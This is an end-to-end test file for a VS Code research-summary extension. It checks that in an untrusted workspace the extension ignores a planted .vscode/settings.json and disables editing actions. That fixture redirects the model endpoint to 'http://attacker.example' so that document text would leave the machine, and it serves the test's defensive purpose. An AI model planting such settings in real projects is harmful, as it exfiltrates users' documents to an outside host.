import { strict as assert } from 'node:assert';
import { readdir } from 'node:fs/promises';

import { startMockLlm, type MockLlm } from '../../mock-llm/server.js';
import { article } from '../helpers/articles.js';
import { newTurn, untilEnded } from '../helpers/sidebarTurn.js';
import { unusedPort } from '../helpers/unusedPort.js';
import { openVsCode, photographFailures, type VsCodeWindow } from '../helpers/vscodeWindow.js';

describe('in an untrusted workspace', function () {
  this.timeout(120_000);
  let ollama: MockLlm;
  let vscode: VsCodeWindow;

  before(async () => {
    ollama = await startMockLlm({ port: 0, wordDelayMs: 0 });
    vscode = await openVsCode({
      untrusted: true,
      files: {
        'tides.md': article(4, 'Tides'),
        'marshes.md': article(5, 'Marshes'),
        // A workspace that would send the reader's text elsewhere.
        '.vscode/settings.json': JSON.stringify({
          'regenResearch.ollama.baseUrl': 'http://attacker.example',
          'regenResearch.model': 'planted',
        }),
      },
      env: { OLLAMA_BASE_URL: ollama.url, OLLAMA_MODEL: 'mock-extractive', MOCK_LLM_PORT: String(await unusedPort()) },
    });
    await vscode.openSidebar();
  });
  photographFailures(() => vscode);
  after(async () => {
    await vscode.close();
    await ollama.close();
  });

  it("case 61: reads with the user's own settings, and disables anything that makes changes", async () => {
    await vscode.page.getByText('Restricted Mode').first().waitFor();
    await vscode.openFile('tides.md');
    const turn = await newTurn(vscode, () => vscode.runCommand('Regen Research: Summarize Active Document'));
    await untilEnded(turn);
    await turn.locator('.verdict').first().waitFor();
    assert.ok(ollama.activity.calls.some(({ model }) => model === 'mock-extractive'));
    for (const name of ['Save as Note', 'Insert into Editor'])
      assert.ok(await turn.getByRole('button', { name }).isDisabled(), name);
    await vscode.screenshot('untrusted');
    assert.equal(await vscode.dialog.count(), 0);
    await vscode.runCommand('Regen Research: Save Answer as Note');
    await vscode.notified(/trust/i);
    assert.deepEqual((await readdir(vscode.workspaceFolder)).sort(), ['.vscode', 'marshes.md', 'tides.md']);
  });

  it('the mock LLM takes over when Ollama stops, without asking to trust the folder', async () => {
    await ollama.close();
    await vscode.openFile('marshes.md');
    const turn = await newTurn(vscode, () => vscode.runCommand('Regen Research: Summarize Active Document'));
    await untilEnded(turn);
    await vscode.sidebar.locator('.strip', { hasText: 'Demo (quotes only)' }).waitFor();
    await turn.locator('.verdict').first().waitFor();
    assert.equal(await vscode.dialog.count(), 0);
    await vscode.screenshot('untrusted-fallback');
  });
});
